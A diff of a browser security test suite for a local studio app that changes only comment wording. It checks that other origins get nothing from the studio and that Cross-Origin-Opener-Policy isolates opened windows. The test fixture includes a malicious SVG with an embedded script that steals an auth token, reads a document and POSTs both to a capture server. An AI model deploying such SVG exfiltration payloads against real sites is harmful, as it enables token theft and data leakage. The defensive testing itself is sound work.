@@ -10,13 +10,13 @@ import { listen, stop } from '../leads/support/site';
 import { patience } from './editor-page';
 import { studioUnderTest, tokenOf } from './open-studio';
 
-/** Whatever page somebody has open beside the studio, on this machine or another: it obtains nothing of this origin. */
+/** No other page that is open beside the studio, of this machine or another, gets anything from this origin. */
 
 const studio = studioUnderTest();
 let server: Server;
-/** Where the page of somebody else is, by a name that leads to this machine. */
+/** The address of the other page, under a name that resolves to this machine. */
 let elsewhere: string;
-/** What reached it. */
+/** The data that reached it. */
 const loot: string[] = [];
 
 beforeAll(async () => {
@@ -33,7 +33,7 @@ afterAll(() => stop(server));
 
 const drawing = () => path.join(studio.folder, 'media/attaque.svg');
 
-/** Takes the token and with it a document, and sends both away. */
+/** Steals the token, uses it to read a document, and sends both away. */
 const attack = () => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1"/><script><![CDATA[
 (async () => {
   const send = (body) => fetch('${elsewhere}/', { method: 'POST', mode: 'no-cors', body });
@@ -45,7 +45,7 @@ const attack = () => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">
 })();
 ]]></script></svg>`;
 
-/** Addresses of the drawing: the one that the studio shows, and that of the file as it was written. */
+/** The addresses of the drawing: the one that the studio shows, and that of the file. */
 async function addressesOfDrawing(): Promise<string[]> {
   writeFileSync(drawing(), attack());
   const headers = { [tokenHeader]: await tokenOf(studio.origin()) };
@@ -61,7 +61,9 @@ async function addressesOfDrawing(): Promise<string[]> {
 
 const ours = () => [studio.origin(), studio.origin().replace('127.0.0.1', 'localhost')];
 
-/** Until what was under way in a page has had its turn: so many answers of its own server, one after the other. */
+/**
+ * Waits until pending work in a page is done: the page makes several requests to its own server, one after the other.
+ */
 const settle = (page: Page) =>
   page.evaluate(async () => {
     for (let turn = 0; turn < 30; turn++) await (await fetch('/')).text();
@@ -163,7 +165,7 @@ test.each(['/', '/atelier/', '/bureau/'])(
     const opening = page.waitForEvent('popup');
     await page.evaluate((url) => Object.assign(window, { opened: window.open(url) }), studio.origin() + address);
     await (await opening).waitForLoadState('domcontentloaded');
-    // As it is told of a window that is another's (Cross-Origin-Opener-Policy).
+    // A browser reports this for a window of another browsing context group (Cross-Origin-Opener-Policy).
     const isLost = () => page.evaluate(() => (window as unknown as { opened: Window }).opened.closed);
     await expect.poll(isLost, patience).toBe(true);
   },
